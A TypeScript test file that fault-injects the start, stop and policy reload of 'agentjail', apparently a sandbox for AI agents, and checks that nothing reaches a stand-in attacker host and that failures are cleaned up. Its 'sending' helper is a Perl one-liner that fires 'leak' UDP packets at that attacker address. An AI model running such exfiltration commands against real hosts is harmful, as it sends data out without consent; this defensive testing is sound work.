/**
 * Each effect of a start, a stop and a reload fails once, by itself or with all that come after it.
 * Judge: no packet to the attacker; an end in bounded time, told in lines for people; then everything is as before the
 * start, or what is left was told and `agentjail gc` clears it. After a reload that failed the old policy is in force.
 *
 * AGENTJAIL_STEPS=all: every effect; else a sample of so many in each case, the same in each run.
 * AGENTJAIL_CASE: a regular expression; only cases such as `uid reload undone-on` that it matches.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import t, { type Test } from 'tap'
import { evil } from '../lab/addresses.js'
import type { Result } from '../lab/host.js'
import { createLab, type Lab } from '../lab/lab.js'
import { fixturePath } from '../lab/paths.js'
import {
  eventually,
  isolations,
  leftOf,
  nothingLeft,
  policy,
  policyPath,
  toEvil,
} from './faults-kit.js'

const asked = process.env['AGENTJAIL_STEPS'] ?? '4'
const only = new RegExp(process.env['AGENTJAIL_CASE'] ?? '')
const failures = ['undone', 'done', 'undone-on', 'done-on'] as const
type Failure = (typeof failures)[number]

const cwd = '/srv/work'
const wider = '/etc/agentjail/policies/wider.yaml'
/** What is granted more is the attacker itself: whatever of it is in force shows on the wire. */
const widerPolicy = policy.replace(
  'allow:',
  `cidrs:\n    - { cidr: ${evil.v4}/32, proto: udp, ports: [51820] }\n  allow:`,
)

const sending = (count: number, end: string) => [
  'perl',
  '-e',
  String.raw`use strict; use Socket; $| = 1; socket(my $s, AF_INET, SOCK_DGRAM, 0); print "started\n";
for (1 .. ${count}) { for my $port (51820, 443, 53) { send($s, 'leak', MSG_DONTWAIT, pack_sockaddr_in($port, inet_aton('${evil.v4}'))) }
  select undef, undef, undef, 0.005 } ${end}`,
]

interface Bench {
  readonly lab: Lab
  readonly prefix: readonly string[]
}

const driver = (
  failure: Failure,
  at: number,
  from: 'start' | 'reload',
  argv: readonly string[],
) => [process.execPath, fixturePath('step-driver.js'), ...[failure, String(at), from], ...argv]

/** Effects 0 to `count` - 1: all, or a sample that is spread and not the same for each failure. */
const chosen = (count: number, offset: number): number[] => {
  const all = Array.from({ length: count }, (_, n) => n)
  if (asked === 'all') return all
  const share = Number(asked) / count
  return all.filter((n) => Math.floor((n + 1) * share + offset) > Math.floor(n * share + offset))
}

const counted = ({ stderr }: Result) => Number(/^effects: (\d+)/m.exec(stderr)?.[1])

/** Ended by itself, as the command or as a refusal, and said so in lines of its own. */
const wellEnded = (t: Test, { code, signal, stderr }: Result, name: string, own: number) => {
  const lines = stderr.split('\n').filter((line) => line !== '' && !/^effects: \d+$/.test(line))
  const isTold = lines.length > 0
  t.ok(
    code === own ||
      (code === 125 && isTold) ||
      (signal === 'SIGKILL' && stderr.includes('the command is ended')),
    `${name}: ends: code ${code}, ${signal}: ${stderr}`,
  )
  t.ok(
    lines.every(
      (line) => line.startsWith('agentjail: ') && !line.startsWith('agentjail: unexpected'),
    ),
    `${name}: lines for people: ${stderr}`,
  )
}

const isEmpty = ({ others, cgroups, files }: Awaited<ReturnType<typeof leftOf>>) =>
  Object.keys(others).length + cgroups.length + files.length === 0

/** As at the start; or told, and so after `agentjail gc`. */
const cleared = async (t: Test, lab: Lab, name: string, said: string) => {
  if (await eventually(async () => isEmpty(await leftOf(lab)), 4)) return
  t.match(said, /could not |cannot /, `${name}: told: ${JSON.stringify(await leftOf(lab))}`)
  const gc = await lab.agentjail(['gc'], { timeout: 30_000 })
  t.equal(gc.code, 0, `${name}: gc: ${gc.stderr}`)
  await nothingLeft(t, lab, name)
}

const silence = async (t: Test, lab: Lab, name: string) => {
  t.same(await lab.capture.packets(toEvil), [], `${name}: nothing reached the attacker`)
}

const startAndStop = async (t: Test, { lab, prefix }: Bench, failure: Failure) => {
  const argv = [...prefix, '--', ...sending(5, 'exit 7')]
  const run = (at: number) => lab.run(driver(failure, at, 'start', argv), { cwd, timeout: 60_000 })
  const whole = await run(1e6)
  t.equal(whole.code, 7, whole.stderr)
  const count = counted(whole)
  t.ok(count > 5, `${count} effects`)
  for (const at of chosen(count, failures.indexOf(failure) / failures.length)) {
    const name = `effect ${at} of ${count} ${failure}`
    const result = await run(at)
    wellEnded(t, result, name, 7)
    await cleared(t, lab, name, result.stderr)
    await silence(t, lab, name)
  }
}

const reload = async (t: Test, { lab, prefix }: Bench, failure: Failure) => {
  const argv = [...prefix, '--', ...sending(4000, 'exit 7')]
  let count = 1
  // A reload's own effects come first, then those of the watch and of the end.
  const most = (): number => (asked === 'all' ? count : Math.min(count, Number(asked)))
  for (let at = -1; at < most(); at++) {
    const name = at < 0 ? 'whole' : `effect ${at} of ${count} ${failure}`
    const jail = lab.spawn(driver(failure, at < 0 ? 1e6 : at, 'reload', argv), {
      cwd,
      timeout: 60_000,
    })
    await jail.until(/started/, 30_000)
    await silence(t, lab, `${name}: before`)
    const result = await lab.agentjail(['reload', 'faults', '-p', wider], { timeout: 30_000 })
    t.ok(result.code === 0 || result.code === 125, `${name}: ${result.code} ${result.stderr}`)
    await lab.capture.clear()
    await sleep(100)
    const leaked = (await lab.capture.packets(toEvil)).filter(({ dst }) => dst === evil.v4)
    if (at < 0) {
      t.equal(result.code, 0, result.stderr)
      t.not(leaked.length, 0, `${name}: what is granted more gets through`)
    }
    if (result.code !== 0) {
      t.match(result.stderr, /^agentjail: .*\n$/, `${name}: one line`)
      t.same(leaked, [], `${name}: the old policy is in force: ${result.stderr}`)
    }
    jail.kill('SIGTERM')
    const ended = await jail.ended
    if (at < 0) count = counted(ended)
    t.notMatch(ended.stderr, /\n\s+at |unexpected/, `${name}: lines for people`)
    t.ok(
      ended.signal === 'SIGTERM' || ended.stderr.includes('the command is ended'),
      `${name}: ends: ${ended.code} ${ended.signal} ${ended.stderr}`,
    )
    await cleared(t, lab, name, ended.stderr)
    await lab.capture.clear()
  }
  t.ok(count > 0, `${count} effects`)
}

/** Milliseconds: bounds a hang, judges no speed. */
const timeout = asked === 'all' ? 1_800_000 : 280_000
t.setTimeout(2 * timeout)
for (const isolation of isolations) {
  t.test(isolation, { timeout }, async (t) => {
    const lab = await createLab()
    t.teardown(() => lab.close())
    lab.writeFile(policyPath, policy)
    lab.writeFile(wider, widerPolicy)
    lab.writeFile('/srv/work/README', 'a workspace\n')
    const prefix = ['run', '-q', '--policy', policyPath, '--isolation', isolation]
    const ready = await lab.agentjail([...prefix, '--', 'true'], { cwd })
    t.equal(ready.code, 0, ready.stderr)
    await lab.remember()
    await lab.capture.clear()
    for (const [name, run] of Object.entries({ 'start and stop': startAndStop, reload }))
      for (const failure of failures)
        if (only.test(`${isolation} ${name} ${failure}`))
          await t.test(`${name}: ${failure}`, { timeout }, (t) => run(t, { lab, prefix }, failure))
  })
}
